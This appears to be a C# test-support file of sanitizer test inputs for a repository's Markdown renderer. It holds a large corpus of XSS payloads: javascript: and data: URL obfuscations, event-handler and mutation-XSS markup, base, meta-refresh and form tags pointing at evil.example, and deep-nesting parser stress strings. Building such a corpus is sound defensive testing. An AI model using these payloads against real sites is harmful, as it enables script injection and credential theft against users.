using Repository.TestSupport;

namespace Repository.Web.Tests.Markdown;

/// <summary>Markup made to run something, from the history of browsers and sanitizers.</summary>
internal static class HostileMarkup
{
    /// <summary>Attributes and addresses that a browser may run or fetch.</summary>
    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)",
        "java\nscript:alert(1)", "java\rscript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
        "java&#9;script:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&colon;alert(1)",
        "\u0001javascript:alert(1)", "&#1;javascript:alert(1)", "\u00a0javascript:alert(1)", "\ufeffjavascript:alert(1)",
        "java\u0000script:alert(1)", "java\u200bscript:alert(1)", "javascript://%0aalert(1)",
        "jav&#x61;script&#58;alert(1)", "vbscript:msgbox(1)", "VBScript:x", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://x/1", "file:///etc/passwd",
        "filesystem:http://x", "about:blank", "view-source:x", "feed:javascript:alert(1)", "jar:http://x!/", "mhtml:x", "livescript:x", "mocha:x",
        "ws://evil.example", "ftp://evil.example", "tel:1", "sms:1", "intent://x#Intent;end",
        "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "/\n/evil.example", "/ /evil.example",
        "http:evil.example", "https:/evil.example", "http:\\\\evil.example", "http://", "https://", "http://[", "http://user:pass@evil.example",
        "x:y", ":", "%6aavascript:alert(1)", "?javascript:alert(1)", "./javascript:alert(1)", "../x", "x", "",
    ];

    private static readonly string[] Snippets =
    [
        // Plain code
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)", "</script><script>alert(1)</script>",
        "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<math><script>alert(1)</script></math>",
        "<script type=text/template><img src=x onerror=alert(1)></script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img src='x' onerror='alert(1)' alt='<b>description</b>'>",
        "<img srcset=x onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">", "<img src=`x` onerror=alert(1)>", "<body onload=alert(1)>",
        "<body background=javascript:alert(1)>", "<html onmouseover=alert(1)>", "<p onclick=alert(1)>x</p>",
        "<p ONCLICK=alert(1) OnFocus=x tabindex=1 autofocus>x</p>", "<a onclick=alert(1) href=/x>x</a>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style=\"x:expression(alert(1))\">x</p>",
        "<p class=obj id=main name=x data-behaviour=print dir=rtl lang=ar>x</p>",
        "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1)><option>x</select>", "<textarea onfocus=alert(1)></textarea>",
        "<video onerror=alert(1)><source></video>", "<audio src=x onerror=alert(1)>", "<video poster=javascript:alert(1)>",
        "<details open ontoggle=alert(1)><summary>x</summary>y</details>", "<marquee onstart=alert(1)>x</marquee>",
        "<keygen autofocus onfocus=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<blink>x</blink>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>", "<frameset onload=alert(1)><frame src=x></frameset>", "<portal src=//evil.example>",
        "<dialog open>x</dialog>", "<slot name=x>y</slot>", "<custom-element onclick=x>y</custom-element>",

        // What changes a page around it
        "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>",
        "<style>@import '//evil.example'</style>", "<style>*{background:url(//evil.example)}</style>",
        "<form action=//evil.example><input name=password><button>ok</button></form>", "<button formaction=javascript:alert(1)>x</button>",
        "<input type=image formaction=//evil.example>", "<isindex action=javascript:alert(1)>",
        "<a href=/x target=_blank ping=//evil.example download>x</a>", "<table background=//evil.example><td background=//evil.example>x",
        "<bgsound src=//evil.example>", "<title>x</title>", "<head><title>y</title></head>", "<plaintext><b>x", "<xmp><b>x</b></xmp>",
        "<listing><b>x</b></listing>", "<noembed><b>x</b></noembed>", "<noframes><b>x</b></noframes>",
        "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><script>alert(1)</script></template>",

        // Mutation: parsed one way, written, parsed another way
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noscript><style></noscript><img src=x onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=alert(1)\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<svg><desc><style><img title=\"</style><img src onerror=alert(1)>\"></desc></svg>",
        "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)></p></foreignObject></svg>",
        "<svg><title><style><a title=\"</style><img src=x onerror=alert(1)>\">",
        "<math><mi><svg><style><img src onerror=alert(1)></style></svg></mi></math>",
        "<svg></svg><style><a title=\"</style><img src=x onerror=alert(1)>\">", "<select><style></select><img src=x onerror=alert(1)></style>",
        "<select><template><style></select></template><img src=x onerror=alert(1)>",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
        "<title><a title=\"</title><img src=x onerror=alert(1)>\">", "<style><a title=\"</style><img src=x onerror=alert(1)>\">",
        "<script><a title=\"</script><img src=x onerror=alert(1)>\">", "<table><a href=/x><td>y</a></table>", "<table><p>x<tr><td>y",
        "<table><svg><tr><td>x", "<p><table><p>x</table>", "<a href=/x>x<a href=/y>y</a></a>", "<a href=/x><table><a href=/y>y</table></a>",
        "<form><p><form>x</form></p></form>", "<div><p>x<div>y</p></div>", "<h1><h2>x</h1></h2>", "<b><p>x</b>y</p>", "<i><b><p>1</i>2</b>3</p>",
        "<p>x<ul><li>y</p>", "<li>x<li>y", "<dd>x<dt>y", "<button><button>x</button></button>", "<nobr>x<nobr>y", "<option><option>x",
        "<ruby>x<rt>y<rt>z</ruby>", "<pre>\n\nx</pre>", "<pre>\nx</pre>", "<textarea>\n\nx</textarea>", "<listing>\n\nx</listing>", "<p>x</p></p>",
        "</br>", "</p>", "<br/>x</br>", "<table><tr><td>x</td></tr></tbody></table></table>", "<caption>x</caption>", "<col><tr>x",
        "<frameset>x</frameset>", "<body><body title=x>", "<html><html onclick=x>",

        // Comments, declarations, entities, broken tags
        "<!-- --><script>alert(1)</script>-->", "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>",
        "<!-- --!><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
        "<!doctype html><script>alert(1)</script>", "<?php echo 1 ?>", "<?xml version='1.0'?><x/>", "<%<!--'%><script>alert(1);</script -->",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60;img src=x onerror=alert(1)&#62;",
        "&lt;img src=x onerror=alert(1)//", "<", "<<", "<a", "<a href=", "<a href=\"/x", "<a href='/x\">y", "</", "<>", "< script>alert(1)</script>",
        "<\u0000script>alert(1)</script>", "<scr\u0000ipt>alert(1)</script>", "<img src=x\u0000 onerror=alert(1)>", "\u0000",
        "<p>\u0000x\u0001\u0008\u000b</p>", "<ſcript>alert(1)</script>", "<ſvg onload=alert(1)>", "＜script＞alert(1)＜/script＞",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<p>\ud800x</p>", "<p>x\udfff</p>", "<a/href=/x>y</a>", "<a href=/x/onclick=alert(1)>y</a>",
        "<A HREF=/X>y</A>", "<p/>x", "<b/>x", "<svg/onload=alert(1)>", "<math href=javascript:alert(1)>x</math>",
        "<math><a xlink:href=javascript:alert(1)>x</a></math>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<svg><use href=data:image/svg+xml,x></svg>", "<svg><animate attributeName=href values=javascript:alert(1)>",
        "<svg><set attributeName=onload to=alert(1)>", "<svg><image href=//evil.example>", "<svg><foreignObject><iframe src=javascript:alert(1)>",

        // What may stay
        "<p>plain</p>", "<h1>a</h1><h3>b</h3><h6>c</h6>", "<ol start=3><li>x</ol>", "<ol start=-1><li>x</ol>", "<ol start=99999999999999><li>x</ol>",
        "<a href=/search?q=a&amp;b=1#x>x</a>", "<a href=#fn-1 class=footnote-ref id=x><sup>1</sup></a>",
        "<a href=https://example.org/?a=1&b=2>x</a>", "<a href=mailto:a@example.org>x</a>", "<a href=/fr/search>x</a>",
        "<a href=/x rel=opener>x</a>", "<table><thead><tr><th>a<tbody><tr><td>b</table>",
        "<blockquote><pre><code class=language-x>a &lt; b</code></pre></blockquote>", "a &amp; b &nbsp; c &copy; &unknown; &#x1F600;",
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. Snippets,
        .. Addresses.Select(address => $"<a href=\"{address.Replace("\"", "&quot;", StringComparison.Ordinal)}\">x</a>"),
        .. Addresses.Select(address => $"<p>a <a href='{address.Replace("'", "&#39;", StringComparison.Ordinal)}' title=y>x</a> b</p>"),
    ];

    /// <summary>Texts that nest so deep, or pair so badly, that a careless parser never ends.</summary>
    public static IReadOnlyList<string> Deep { get; } =
    [
        Repeated("<p>"), Repeated("<blockquote>"), Repeated("<ul><li>"), Repeated("<table><tr><td>"), Repeated("<b><i>"), Repeated("<a href=/x>"), Repeated("<font>"), Repeated("<svg>"), Repeated("<math><mtext>"), Repeated("<div><script>"), Repeated("</p>"), Repeated("<"), Repeated("<!--"), Repeated("&lt;"), Repeated("&"), Repeated("<template>"), Repeated("<select>"), Repeated("<p "), Repeated("<form>"), Repeated("<nobr>"), Repeated("<h1>"), Repeated("<pre>\n"), Repeated("\u0000"),
    ];

    public static string Repeated(string text) => string.Concat(Enumerable.Repeat(text, TestEffort.Of(quick: 500, full: 10_000, extended: 10_000)));
}
